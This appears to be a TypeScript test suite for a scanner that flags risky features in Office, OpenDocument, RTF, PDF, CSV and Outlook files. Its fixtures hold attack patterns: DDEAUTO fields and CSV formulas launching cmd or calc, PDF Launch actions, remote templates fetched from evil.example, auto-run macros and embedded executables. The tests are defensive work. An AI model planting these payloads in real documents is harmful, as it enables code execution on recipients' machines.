import assert from 'node:assert/strict';
import { createCipheriv, createHash } from 'node:crypto';
import { test } from 'node:test';
import { deflateSync } from 'node:zlib';
import { zip } from '../archives/testing/make-archives.ts';
import { look, partNamed } from '../content/testing/look.ts';
import { compoundFile } from './testing/make-compound-file.ts';
import { decompress } from './vba.ts';

const openXml = (
  parts: Record<string, string>,
  type = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
) =>
  zip([
    {
      name: '[Content_Types].xml',
      data: Buffer.from(`<Types><Override PartName="/word/document.xml" ContentType="${type}"/></Types>`),
    },
    ...Object.entries(parts).map(([name, data]) => ({ name, data: Buffer.from(data) })),
  ]);

test('a template from elsewhere is told, one of the machine and a link are not', () => {
  const rels = (type: string, target: string) =>
    openXml({
      'word/document.xml': '<w:p><w:t>Hi</w:t></w:p>',
      'word/_rels/settings.xml.rels': `<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
    });
  for (const target of [
    'http://evil.example/t.dotm',
    '\\\\10.0.0.1\\share\\t.dotm',
    'file://evil.example/t.dotm',
    'mhtml:http://evil.example/x!x-usc:',
  ])
    assert.deepEqual(look(rels('attachedTemplate', target), 'a.docx').traits, ['remote-template'], target);
  assert.deepEqual(look(rels('attachedTemplate', 'file:///C:\\Users\\me\\Normal.dotm'), 'a.docx').traits, []);
  const linked = look(rels('hyperlink', 'https://shop.example/'), 'a.docx');
  assert.deepEqual([linked.traits, linked.file.links?.map(({ host }) => host)], [[], ['shop.example']]);
  assert.equal(linked.file.text?.trim(), 'Hi');
});

test('a field that starts a program is found however it is split', () => {
  const split = '<w:instrText>D</w:instrText><w:instrText>DEAUTO c:\\\\x.exe</w:instrText>';
  assert.deepEqual(look(openXml({ 'word/document.xml': split }), 'a.docx').traits, ['starts-program']);
  const spelled = '<w:instrText> QUOTE  68 68 69 65 85 84 79 </w:instrText>';
  assert.deepEqual(look(openXml({ 'word/header1.xml': spelled }), 'a.docx').traits, ['starts-program']);
  assert.deepEqual(
    look(openXml({ 'word/document.xml': '<w:instrText>PAGE</w:instrText><w:t>DDE</w:t>' }), 'a.docx').traits,
    [],
  );
});

test('a project of macros is found whatever its file is called', () => {
  const types = 'application/vnd.ms-office.vbaProject';
  assert.ok(look(openXml({ 'word/picture.dat': 'x' }, types), 'a.docx').traits.includes('macro'));
});

test('a file in a document is looked into', () => {
  const found = look(
    openXml({ 'word/document.xml': '', 'word/embeddings/oleObject1.bin': 'x', 'word/embeddings/setup.exe': 'MZ' }),
    'a.docx',
  );
  assert.ok(found.file.traits.includes('embedded-object'));
  assert.ok(partNamed(found, 'word/embeddings/setup.exe')?.traits.includes('executable'));
});

test('OpenDocument: macros, events that start them, templates from elsewhere', () => {
  const document = (parts: Record<string, string>) =>
    zip(
      Object.entries({
        mimetype: 'application/vnd.oasis.opendocument.text',
        'content.xml': '<office:text><text:p>Hi</text:p></office:text>',
        ...parts,
      }).map(([name, data]) => ({ name, data: Buffer.from(data) })),
    );
  const plain = look(document({ 'Basic/Standard/script-lb.xml': '<x/>' }), 'a.odt');
  assert.deepEqual([plain.traits, plain.file.type], [[], 'application/vnd.oasis.opendocument.text']);
  assert.deepEqual(look(document({ 'Basic/Standard/Module1.xml': 'Sub Main' }), 'a.odt').traits, ['macro']);
  const starts = '<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:x"/>';
  assert.ok(look(document({ 'settings.xml': starts }), 'a.odt').traits.includes('macro-autorun'));
  assert.ok(
    look(document({ 'meta.xml': '<meta:template xlink:href="http://evil.example/t.ott"/>' }), 'a.odt').traits.includes(
      'remote-template',
    ),
  );
});

const hex = (text: string) => Buffer.from(text, 'latin1').toString('hex');

test('RTF: an object is read through whatever stands between its digits', () => {
  const path = (text: string) => `${hex(text)}00`;
  const le4 = (value: number) => Buffer.from(Uint32Array.of(value).buffer).toString('hex');
  const data = `0200${path('invoice.exe')}${path('C:\\x\\invoice.exe')}00000300${le4(4)}${hex('a.b\0')}${le4(4)}${hex('MZ\x90\0')}`;
  const object = `01050000 02000000 ${le4(8)} ${hex('Package\0')} 00000000 00000000 ${le4(data.length / 2)} ${data}`;
  const messy = object.replace(/(..)/g, '$1 ').replace('01 ', '0{\\*\\x aa}1\r\n');
  const found = look(Buffer.from(`{\\rtf1 Hello {\\object\\objemb{\\*\\objdata ${object}}}}`), 'a.doc');
  assert.ok(partNamed(found, 'invoice.exe')?.traits.includes('executable'), JSON.stringify(found.parts));
  assert.match(found.file.text ?? '', /Hello/);
  assert.ok(
    look(Buffer.from(`{\\rt{\\object{\\*\\objdata ${messy}}}}`), 'a.doc').file.traits.includes('embedded-object'),
  );
  assert.ok(
    look(Buffer.from('{\\rtf1{\\*\\template http://evil.example/x.dotm}}'), 'a.rtf').traits.includes('remote-template'),
  );
  assert.ok(
    look(Buffer.from('{\\rtf1{\\field{\\*\\fldinst {DDEAUTO cmd}}{\\fldrslt}}}'), 'a.rtf').traits.includes(
      'starts-program',
    ),
  );
  assert.deepEqual(look(Buffer.from("{\\rtf1\\ansi Gr\\'fc\\'dfe \\u8364 ?}"), 'a.rtf').file.text, 'Grüße €');
});

test('PDF: scripts and programs, in the open, by escaped names and in packed objects; files inside; links', () => {
  const pdf = (body: string | Buffer) =>
    Buffer.concat([Buffer.from('%PDF-1.5\n'), Buffer.from(body as string), Buffer.from('\n%%EOF')]);
  assert.deepEqual(look(pdf('1 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj'), 'a.pdf').traits, ['script']);
  assert.deepEqual(look(pdf('1 0 obj<</S/J#61vaScript/J#53 (x)>>endobj'), 'a.pdf').traits, ['script']);
  assert.deepEqual(look(pdf('1 0 obj<</S /Launch/F(cmd.exe)>>endobj'), 'a.pdf').traits, ['starts-program']);
  const packed = deflateSync(Buffer.from('<</S/JavaScript/JS(x)>>'));
  const stream = Buffer.concat([
    Buffer.from('1 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\r\n'),
    packed,
    Buffer.from('\r\nendstream endobj'),
  ]);
  assert.deepEqual(look(pdf(stream), 'a.pdf').traits, ['script']);
  const file = Buffer.concat([
    Buffer.from('1 0 obj<</Type/EmbeddedFile/Filter/FlateDecode>>stream\n'),
    deflateSync(Buffer.from('MZ\x90\0', 'latin1')),
    Buffer.from('\nendstream endobj'),
  ]);
  assert.ok(look(pdf(file), 'a.pdf').traits.includes('executable'));
  const linked = look(pdf('1 0 obj<</A<</S/URI/URI(https://evil.example/x)>>>>endobj'), 'a.pdf');
  assert.deepEqual([linked.traits, linked.file.links?.[0]?.host], [[], 'evil.example']);
});

test('SLK, CSV and XML that start programs', () => {
  assert.ok(
    look(Buffer.from('ID;P\r\nO;E\r\nNN;NAuto_open;ER1C1\r\nC;X1;Y1;ECALL()\r\nE\r\n'), 'a.slk').traits.includes(
      'macro-xlm',
    ),
  );
  assert.deepEqual(look(Buffer.from("a,b\n1,=cmd|'/c calc'!A1\n"), 'a.csv').traits, ['starts-program']);
  assert.deepEqual(look(Buffer.from('a,b\n1,-2\nx|y,=SUM(A1)!\n'), 'a.csv').traits, []);
  const sheet = (formula: string) =>
    `<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Cell ss:Formula="${formula}"/></Workbook>`;
  assert.ok(look(Buffer.from(sheet("=cmd|'/c calc'!A1")), 'a.xml').traits.includes('starts-program'));
  assert.deepEqual(look(Buffer.from(sheet('=SUM(A1)')), 'a.xml').traits, []);
});

test('packed VBA source is unpacked', () => {
  // [MS-OVBA] 3.2.3: the example of a compressed container.
  const packed = Buffer.from(
    '01 2f b0 00 23 61 61 61 62 63 64 65 82 66 00 70 61 67 68 69 6a 01 38 08 61 6b 6c 00 30 6d 6e 6f 70 06 71 02 70 04 10 72 73 74 75 76 10 77 78 79 7a 00 3c'.replaceAll(
      ' ',
      '',
    ),
    'hex',
  );
  assert.equal(decompress(packed).toString(), '#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa');
});

/** [MS-OFFCRYPTO] 2.3.4.5 and 2.3.4.7: standard encryption with AES-128. */
function lockedWith(password: string, content: Buffer): Buffer {
  const sha1 = (...octets: Buffer[]) => octets.reduce((hash, one) => hash.update(one), createHash('sha1')).digest();
  const le4 = (value: number) => Buffer.from(Uint32Array.of(value).buffer);
  const salt = Buffer.alloc(16, 7);
  let hash = sha1(salt, Buffer.from(password, 'utf16le'));
  for (let turn = 0; turn < 50_000; turn++) hash = sha1(le4(turn), hash);
  const block = Buffer.alloc(64, 0x36);
  for (const [index, octet] of sha1(hash, le4(0)).entries()) block[index] = 0x36 ^ octet;
  const key = sha1(block).subarray(0, 16);
  const encrypt = (octets: Buffer) => {
    const cipher = createCipheriv('aes-128-ecb', key, null).setAutoPadding(false);
    return Buffer.concat([
      cipher.update(Buffer.concat([octets, Buffer.alloc((16 - (octets.length % 16)) % 16)])),
      cipher.final(),
    ]);
  };
  const verifier = Buffer.alloc(16, 9);
  const header = Buffer.concat([
    le4(0x24),
    le4(0),
    le4(0x660e),
    le4(0x8004),
    le4(128),
    le4(0x18),
    le4(0),
    le4(0),
    Buffer.from('A\0', 'utf16le'),
  ]);
  const info = Buffer.concat([
    Buffer.from([3, 0, 2, 0]),
    le4(0x24),
    le4(header.length),
    header,
    le4(16),
    salt,
    encrypt(verifier),
    le4(20),
    encrypt(sha1(verifier)),
  ]);
  const packed = Buffer.concat([le4(content.length), le4(0), encrypt(content)]);
  return compoundFile({ EncryptionInfo: info, EncryptedPackage: packed });
}

test('what is locked with the password that everybody has is open; with another it is not', () => {
  const content = openXml({ 'xl/workbook.xml': 'x' }, 'application/vnd.ms-office.vbaProject');
  const open = look(lockedWith('VelvetSweatshop', content), 'a.xlsx');
  assert.deepEqual(open.traits, ['encrypted', 'macro']);
  assert.deepEqual(Buffer.from(open.hidden[0]!.bytes), content);
  assert.deepEqual(look(lockedWith('secret', content), 'a.xlsx').traits, ['encrypted']);
});

test('macros of a compound file, and whether they start by themselves', () => {
  const project = (source: string) =>
    compoundFile({
      VBA: undefined,
      _VBA_PROJECT: Buffer.from('x'),
      dir: Buffer.from('x'),
      Module1: Buffer.from(source),
      WordDocument: Buffer.alloc(5000),
    });
  assert.deepEqual(look(project('Sub Hello()'), 'a.doc').traits, ['macro']);
  assert.deepEqual(look(project('Sub Document_Open()'), 'a.doc').traits, ['macro', 'macro-autorun']);
  assert.deepEqual(look(compoundFile({ WordDocument: Buffer.alloc(5000) }), 'a.doc').traits, []);
});

test('a field in an old document, a package in it, a message of Outlook', () => {
  const word = Buffer.alloc(5000);
  word.write('\x13 DDEAUTO c:\\x.exe \x14x\x15', 2000, 'latin1');
  assert.deepEqual(look(compoundFile({ WordDocument: word }), 'a.doc').traits, ['starts-program']);
  const message = compoundFile({
    '__properties_version1.0': Buffer.alloc(32),
    '__substg1.0_37010102': Buffer.from('MZ\x90\0', 'latin1'),
    '__substg1.0_3707001F': Buffer.from('a.exe', 'utf16le'),
    '__substg1.0_1000001F': Buffer.from('Hello', 'utf16le'),
  });
  const found = look(message, 'a.msg');
  assert.equal(found.file.type, 'application/vnd.ms-outlook');
  assert.ok(partNamed(found, 'a.exe')?.traits.includes('executable'));
  assert.ok(found.parts.some(({ text }) => text === 'Hello'));
});
